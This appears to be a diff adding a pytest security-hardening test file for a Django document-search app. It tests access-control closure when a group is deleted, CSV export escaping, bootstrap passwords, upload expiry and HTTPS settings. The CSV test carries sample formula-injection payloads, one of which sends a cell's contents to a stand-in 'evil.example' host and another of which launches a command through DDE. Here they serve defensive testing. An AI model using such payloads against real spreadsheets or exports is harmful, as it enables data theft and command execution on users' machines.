@@ -1,0 +1,177 @@
+"""Smaller hardening items: deleting a group never opens a document, the CSV export cannot carry a formula,
+bootstrap sets no known password outside development, expired private uploads go away, production settings
+insist on HTTPS."""
+
+from __future__ import annotations
+
+import csv
+import io
+import subprocess
+import sys
+from datetime import timedelta
+from pathlib import Path
+
+import pytest
+from django.contrib.auth.models import Group, User
+from django.utils import timezone
+
+from audit.models import AuditEvent
+from audit.services import audit_record
+from knowledge.models import Chunk, Document, DocumentStatus
+from knowledge.selectors import document_list_visible
+from knowledge.services import IngestOptions, files_ingest, uploads_expire
+from retrieval.types import Principal
+from tests.api import client_for, make_user
+from tests.knowledge.conftest import write_docs
+
+ROOT = Path(__file__).resolve().parents[2]
+DOC = "# Rack power budget\n\nEach rack in hall B is limited to 8 kW; ask facilities before adding a blade chassis.\n"
+
+
+def _ingest(root: Path, options: IngestOptions) -> None:
+    files = [(options.prefix + path.name, str(path)) for path in sorted(root.iterdir())]
+    summary = files_ingest(root=str(root), files=files, options=options)
+    assert summary.failed == 0, summary.errors
+
+
+@pytest.mark.integration
+@pytest.mark.slow
+@pytest.mark.django_db
+def test_deleting_a_group_never_opens_its_documents(tmp_path: Path) -> None:
+    _ingest(write_docs(tmp_path / "a", {"power.md": DOC}), IngestOptions(acl_groups=("facilities",)))
+    _ingest(write_docs(tmp_path / "b", {"power-b.md": DOC}), IngestOptions(acl_groups=("facilities", "noc")))
+    outsider = Principal.from_user(make_user("emp", "employees"))
+    assert not document_list_visible(principal=outsider).exists()
+    Group.objects.get(name="facilities").delete()
+    # the internal document readable only through the deleted group is now readable by nobody, not everybody
+    assert not document_list_visible(principal=outsider).exists()
+    closed = Document.objects.get(source="power.md")
+    assert closed.access_tier == "restricted" and not closed.allowed_groups.exists()
+    assert not Chunk.objects.filter(document=closed, acl_open=True).exists()
+    kept = Document.objects.get(source="power-b.md")
+    assert kept.access_tier == "internal" and list(kept.allowed_groups.values_list("name", flat=True)) == [
+        "noc"
+    ]
+    assert AuditEvent.objects.filter(kind="acl_change", documents__contains=["power.md"]).exists()
+
+
+@pytest.mark.integration
+@pytest.mark.django_db
+def test_the_csv_export_neutralises_formulas() -> None:
+    attacker = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    audit_record(kind="login_failed", actor=attacker, verdict="denied", payload={"username": attacker})
+    audit_record(kind="login_failed", actor="+1+cmd|' /C calc'!A0", verdict="denied", payload={})
+    response = client_for(make_user("auditor", "compliance")).get("/api/v1/audit/export.csv")
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = [value for row in rows for value in row.values() if value]
+    assert cells and not any(value.startswith(("=", "+", "-", "@")) for value in cells)
+    assert any(value == "'" + attacker for value in cells)
+
+
+@pytest.mark.integration
+@pytest.mark.django_db
+def test_bootstrap_sets_no_known_password_outside_development() -> None:
+    from athena.management.commands.bootstrap import demo_users_ensure
+
+    admin = User.objects.create_user("admin", password="a-changed-strong-password")
+    assert demo_users_ensure(debug=False) is False
+    admin.refresh_from_db()
+    assert admin.check_password("a-changed-strong-password")
+    assert not User.objects.filter(username__in=["alice", "noc-bob", "carol"]).exists()
+    assert demo_users_ensure(debug=True) is True
+    assert User.objects.get(username="alice").check_password("alice-demo-pass")
+
+
+@pytest.mark.integration
+@pytest.mark.slow
+@pytest.mark.django_db
+def test_expired_private_uploads_are_tombstoned_and_deleted(settings) -> None:  # type: ignore[no-untyped-def]
+    owner = make_user("eng", "employees")
+    folder = Path(settings.MEDIA_ROOT) / "uploads" / str(owner.pk)
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / "notes.md"
+    path.write_text(DOC)
+    expired = timezone.now() - timedelta(minutes=1)
+    options = IngestOptions(owner_id=owner.pk, access_tier="confidential", expires_at=expired)
+    summary = files_ingest(
+        root=str(settings.MEDIA_ROOT), files=[(f"uploads/{owner.pk}/notes.md", str(path))], options=options
+    )
+    assert summary.failed == 0
+    document = Document.objects.get(source=f"uploads/{owner.pk}/notes.md")
+    assert Chunk.objects.filter(document=document, active=True).exists()
+    assert uploads_expire() == 1
+    document.refresh_from_db()
+    assert document.status == DocumentStatus.TOMBSTONED
+    assert not Chunk.objects.filter(document=document).exists()
+    assert not path.exists()
+    assert AuditEvent.objects.filter(kind="upload_expired", documents__contains=[document.source]).exists()
+    assert uploads_expire() == 0  # idempotent
+
+
+@pytest.mark.unit
+def test_production_settings_insist_on_https() -> None:
+    code = (
+        "import django; from django.conf import settings; django.setup(); "
+        "print(settings.SECURE_SSL_REDIRECT, settings.SECURE_HSTS_SECONDS >= 31536000, "
+        "settings.SECURE_PROXY_SSL_HEADER, settings.SESSION_COOKIE_SECURE, settings.CSRF_COOKIE_SECURE)"
+    )
+    env = {
+        "PATH": "/usr/bin:/bin",
+        "DJANGO_SETTINGS_MODULE": "athena.settings.production",
+        "ATHENA_SECRET_KEY": "x" * 50,
+        "ATHENA_AUDIT_KEY": "k" * 40,
+    }
+    out = subprocess.run(
+        [sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True, check=True
+    )
+    assert out.stdout.split() == ["True", "True", "('HTTP_X_FORWARDED_PROTO',", "'https')", "True", "True"]
+    env.pop("ATHENA_AUDIT_KEY")
+    missing = subprocess.run([sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True)
+    assert missing.returncode != 0 and "ATHENA_AUDIT_KEY" in missing.stderr
+
+
+@pytest.mark.unit
+@pytest.mark.parametrize("module", ["athena.wsgi", "athena.celery"])
+def test_servers_default_to_production_settings(module: str) -> None:
+    code = f"import os, {module}; print(os.environ['DJANGO_SETTINGS_MODULE'])"
+    env = {"PATH": "/usr/bin:/bin", "ATHENA_SECRET_KEY": "x" * 50, "ATHENA_AUDIT_KEY": "k" * 40}
+    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True)
+    assert out.returncode == 0, out.stderr[-2000:]
+    assert out.stdout.strip().splitlines()[-1] == "athena.settings.production"
+    # and production refuses to start without its secrets instead of running with development defaults
+    bare = subprocess.run(
+        [sys.executable, "-c", f"import {module}; from django.conf import settings; settings.DEBUG"],
+        cwd=ROOT,
+        env={"PATH": "/usr/bin:/bin"},
+        capture_output=True,
+        text=True,
+    )
+    assert bare.returncode != 0 and "ATHENA_SECRET_KEY" in bare.stderr
+
+
+@pytest.mark.integration
+@pytest.mark.slow
+@pytest.mark.django_db(transaction=True)  # retrieval reads through its own pool connections
+def test_an_expired_upload_is_not_citable_even_before_the_expiry_task(settings) -> None:  # type: ignore[no-untyped-def]
+    from retrieval.search import search
+
+    owner = make_user("eng", "employees")
+    folder = Path(settings.MEDIA_ROOT) / "uploads" / str(owner.pk)
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / "power.md"
+    path.write_text(DOC)
+    source = f"uploads/{owner.pk}/power.md"
+    live = IngestOptions(
+        owner_id=owner.pk, access_tier="confidential", expires_at=timezone.now() + timedelta(hours=1)
+    )
+    files_ingest(root=str(settings.MEDIA_ROOT), files=[(source, str(path))], options=live)
+    principal = Principal.from_user(owner)
+    question = "What is the power limit of a rack in hall B?"
+    assert source in search(question, principal).documents()
+    chunk = Chunk.objects.filter(document__source=source).first()
+    assert chunk is not None
+    client = client_for(owner)
+    assert client.get(f"/api/v1/passages/{chunk.pk}").status_code == 200
+    Document.objects.filter(source=source).update(expires_at=timezone.now() - timedelta(seconds=1))
+    assert source not in search(question, principal).documents()
+    assert client.get(f"/api/v1/passages/{chunk.pk}").status_code == 404
